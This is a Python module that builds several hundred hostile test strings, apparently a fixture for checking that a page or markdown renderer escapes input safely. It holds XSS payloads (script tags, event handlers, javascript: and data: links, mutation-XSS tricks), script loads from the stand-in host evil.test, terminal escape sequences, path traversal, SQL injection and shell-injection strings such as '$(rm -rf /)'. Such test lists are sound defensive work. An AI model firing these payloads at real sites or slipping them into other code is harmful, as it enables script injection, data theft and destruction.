"""Several hundred texts that would act if a page took them for markup, a link, a style or a control."""

from itertools import product

_CALLS = ("alert(1)", "alert`1`", "top[/al/.source+/ert/.source](1)", "import('//evil.test')", "fetch(`//evil.test`)")

_TAGS = (
    *("<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script\n>", "<script/x>{}</script>"),
    *("<script src=//evil.test/x.js></script>", "<<script>{}//<</script>", "<scr<script>ipt>{}</script>"),
    *("<img src=x onerror={}>", "<img/src='x'/onerror='{}'>", '<img src="x" onerror="{}">', "<image src=x onerror={}>"),
    *(
        "<svg onload={}>",
        "<svg/onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><animate onbegin={} attributeName=x>",
    ),
    *("<svg><a xlink:href='javascript:{}'><text y=9>click</text></a></svg>", "<svg><use href='data:image/svg+xml,x'/>"),
    *("<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={}>'>",),
    *("<iframe src=javascript:{}></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe onload={}>"),
    *("<body onload={}>", "<body background=//evil.test/b.png>", "<html manifest=//evil.test>", "<frameset onload={}>"),
    *("<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>"),
    *("<button formaction=javascript:{}>go</button>", "<form action=javascript:{}><input type=submit></form>"),
    *(
        "<isindex action=javascript:{} type=image>",
        "<keygen autofocus onfocus={}>",
        "<marquee onstart={}>move</marquee>",
    ),
    *("<video><source onerror={}></video>", "<video poster=//evil.test/p.png>", "<audio src=x onerror={}>"),
    *("<object data=javascript:{}>", "<object data=//evil.test/x.swf>", "<embed src=javascript:{}>", "<applet code=x>"),
    *(
        "<link rel=stylesheet href=//evil.test/x.css>",
        "<link rel=import href=//evil.test>",
        "<link rel=prefetch href=//e.test>",
    ),
    *("<meta http-equiv=refresh content='0;url=javascript:{}'>", "<meta http-equiv=refresh content=0;url=//evil.test>"),
    *("<base href=//evil.test/>", "<base target=_blank>", "<style>@import '//evil.test/x.css';</style>"),
    *("<style>*{{background:url(//evil.test/b)}}</style>", "<div style='background:url(//evil.test/b)'>d</div>"),
    *("<div style=width:expression({})>d</div>", "<p style='position:fixed;inset:0'>cover</p>", "<x style=x:y>"),
    *(
        "<details open ontoggle={}>d</details>",
        "<dialog open onclose={}>d</dialog>",
        "<template><script>{}</script></template>",
    ),
    *("<a href=javascript:{}>a</a>", "<a href='data:text/html,<script>{}</script>'>a</a>", "<a onmouseover={}>a</a>"),
    *(
        "<a id=turn-1 name=turn-1>clobber</a>",
        "<form id=document><input name=cookie></form>",
        "<img name=getElementById>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
        "<xmp><script>{}</script></xmp>",
        "<plaintext>swallow",
    ),
    *(
        "<title></title><script>{}</script>",
        "<textarea></textarea><script>{}</script>",
        "<listing>&lt;script></listing>",
    ),
    *(
        "<!--<script>{}</script>-->",
        "<!--><script>{}</script>",
        "<!-- --!><script>{}</script>",
        "<!--[if IE]>{}<![endif]-->",
    ),
    *(
        "<![CDATA[<script>{}</script>]]>",
        "<?xml version='1.0'?><x>{}</x>",
        "<!DOCTYPE x [<!ENTITY y '{}'>]>",
        "<?php {} ?>",
    ),
    *(
        "<custom-element onclick={}>c</custom-element>",
        "<x onpointerrawupdate={}>x",
        "<a/onclick={}>x",
        "<p/id=x onclick={}>x",
    ),
    *(
        "</pre></code></div><script>{}</script>",
        "</span></details><img src=x onerror={}>",
        "</title></style></script>{}",
    ),
    *('"><script>{}</script>', "'><script>{}</script>", '" onmouseover="{}', "' onmouseover='{}", "` onmouseover=`{}"),
    *(
        '" autofocus onfocus="{}" x="',
        "x' autofocus onfocus={} y='",
        "--><script>{}</script>",
        "]]><script>{}</script>",
    ),
    *(
        "{{{{constructor.constructor('{}')()}}}}",
        "{{% raw %}}{{{{ {} }}}}{{% endraw %}}",
        "${{{}}}",
        "#{{{}}}",
        "<%= {} %>",
    ),
    *("</script><script>{}</script>", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E"),
    *(
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "&amp;lt;script&amp;gt;{}",
        "&lt&lt;script>{}",
    ),
    *("+ADw-script+AD4-{}+ADw-/script+AD4-", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "<\x00script>{}</\x00script>"),
)

_SCHEMES = (
    *("javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\x01javascript:{}", "java\tscript:{}", "java\nscript:{}"),
    *("java\rscript:{}", "javascript\t:{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "java&#9;script:{}"),
    *("java&Tab;script:{}", "javascript&colon;{}", "java&NewLine;script:{}", "javascript:%0A{}", "%6Aavascript:{}"),
    *("javascript://evil.test/%0A{}", "vbscript:{}", "livescript:{}", "data:text/html,<script>{}</script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>"),
    *("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:,{}", "data:image/png,{}", "DATA:text/html,{}"),
    *(
        'data:image/png;base64,"onerror={}',
        "data:image/png;charset=x;base64,AAAA",
        "file:///etc/passwd",
        "blob:null/{}",
    ),
    *("filesystem:http://evil.test/{}", "about:blank#{}", "view-source:javascript:{}", "feed:javascript:{}"),
    *("jar:javascript:{}!/", "\u2028javascript:{}", "\ufeffjavascript:{}", "java\u00adscript:{}", "//evil.test/{}"),
    *(
        "\\\\evil.test\\{}",
        "/\\evil.test/{}",
        "https:evil.test/{}",
        "http:/evil.test/{}",
        'http://evil.test/"onclick={}',
    ),
    *("http://evil.test/'onclick={}", "http://evil.test/<script>{}</script>", "https://good.test@evil.test/{}"),
    *("mailto:a@b.test?body=<script>{}</script>", "tel:+1{}", "intent://x#Intent;scheme={};end", "ms-settings:{}"),
)

_FORMS = (
    "[link]({})",
    "![image]({})",
    "[link](<{}>)",
    "<{}>",
    "[ref]\n\n[ref]: {}",
    "[![inner]({})](https://x.test)",
    "{}",
)

_MARKDOWN = (
    *('[a](javascript:alert(1) "refused title")', '![a](javascript:alert(1) "refused caption")'),
    *('[a ![b](https://b.test "inner caption") c](https://c.test "outer title")',),
    *('[a](https://x.test "title" onclick=alert(1))', "[a](https://x.test 'ti\"tle onmouseover=alert(1)')"),
    *('![a" onerror="alert(1)](https://x.test/i.png)', '![a](https://x.test/i.png "t\\" onerror=\\"alert(1)")'),
    *('```"><script>alert(1)</script>\ncode\n```', '```js" onclick="alert(1)\ncode\n```', "~~~<script>\ncode\n~~~"),
    *("`<script>alert(1)</script>`", "``<img src=x onerror=alert(1)>``", "    <script>alert(1)</script>"),
    *(
        "> <script>alert(1)</script>",
        "- <img src=x onerror=alert(1)>",
        "1. <svg onload=alert(1)>",
        "# <script>alert(1)</script>",
    ),
    *(
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | `|` |",
        "|<b>|\n|:-:|\n|<i onclick=x>|",
        "**<b onclick=x>bold</b>**",
    ),
    *(
        "[a <https://inner.test> b](https://outer.test)",
        "[a [b](https://b.test) c](https://c.test)",
        "[![x](https://i.test)][r]",
    ),
    *(
        '<https://x.test/"onclick=alert(1)>',
        'https://x.test/"onclick="alert(1)',
        "https://x.test/<script>alert(1)</script>",
    ),
    *(
        "www.x.test/'onmouseover='alert(1)",
        '<a@b.test"onclick=alert(1)>',
        "xmpp:a@b.test ftp://x.test/file",
        "a@b.test",
    ),
    *(
        "\\<script>alert(1)\\</script>",
        "<script>\nalert(1)\n</script>",
        "<div>\n\n*text*\n\n</div>",
        "<pre>\n<script>x</script>\n</pre>",
    ),
    *(
        "[x]: javascript:alert(1)\n\n[x]",
        "[note]: hidden words here",
        "[^1]: a footnote\n\ntext[^1]",
        "[x]:\njavascript:alert(1)",
    ),
    *(
        "&lt;script&gt;",
        "&#0;&#1;&#27;[2J&#x202E;&#xFDD0;&#xD800;",
        "- [ ] <script>x</script>\n- [x] done",
        "---\ntitle: <x>\n---",
    ),
    *(
        "<details><summary>s</summary>\n\nhidden\n\n</details>",
        "<!-- hidden comment -->",
        "text <!-- inline --> more",
        "<?php x ?>",
    ),
    *(
        "![](javascript:alert(1))",
        "![x](data:image/png;base64,AAAA)",
        "![x](data:image/svg+xml;base64,AAAA)",
        "[](https://x.test)",
    ),
    *(
        "](<script>alert(1)</script>",
        "[x](<script>alert(1)</script>)",
        "[x](<https://x.test/<b>>)",
        "<<<<script>>>>",
        "<a<b<c>",
    ),
    *(
        "<https://x.test>x</https://x.test>",
        "<mailto:a@b.test onclick=x>",
        "<a href=x>y</a>@z.test",
        "\ufdd0script>\ufdd1",
    ),
)

_CONTROLS = (
    *(
        "\x00nul",
        "\x01\x02\x03low",
        "\x07bell",
        "\x08back",
        "\x0bvt",
        "\x0cff",
        "\rreturn\rover",
        "crlf\r\nline",
        "\x1b[31mred\x1b[0m",
    ),
    *(
        "\x1b[2J\x1b[Hclear",
        "\x1b]0;title\x07",
        "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
        "\x1b]52;c;aGk=\x07",
        "\x1bPq\x1b\\",
    ),
    *(
        "\x7fdelete",
        "\x80\x85\x9b31m\x9f",
        "\u202eoverride\u202c",
        "\u2066isolate\u2069",
        "\u2028line\u2029paragraph",
        "\ufeffmark",
    ),
    *(
        "\ud800lone\udfff",
        "\ufdd0\ufffe\uffffnever",
        "\U0001fffe\U0010ffff",
        "a\u0301\u0302\u0303" * 40,
        "\u200bzero\u200dwidth",
        "🏴\U000e0067",
    ),
    *(
        "\t\ttabs",
        "   spaces   ",
        "\n\n\nlines\n\n\n",
        "",
        " ",
        "x" * 3_000,
        "line\n" * 40,
        "<" * 300,
        "&" * 300,
        "`" * 99,
        "[" * 300,
    ),
    *(
        "../../etc/passwd",
        "..\\..\\windows",
        "/absolute/path",
        "C:\\drive",
        "~/home",
        "a/../../b",
        "con.txt",
        "name\nwith\nlines",
    ),
    *(
        "#turn-1",
        "?q=<script>",
        "session:<script>",
        "session:javascript:alert(1)",
        "'; DROP TABLE x; --",
        "$(rm -rf /)",
        "`id`",
    ),
)

CALLED = [text.format(call) for text, call in product(_TAGS, _CALLS[:2])] + [_TAGS[0].format(call) for call in _CALLS]
LINKED = [form.format(scheme.format("alert(1)")) for form, scheme in product(_FORMS, _SCHEMES)]
PAYLOADS = list(dict.fromkeys((*CALLED, *LINKED, *_MARKDOWN, *_CONTROLS)))
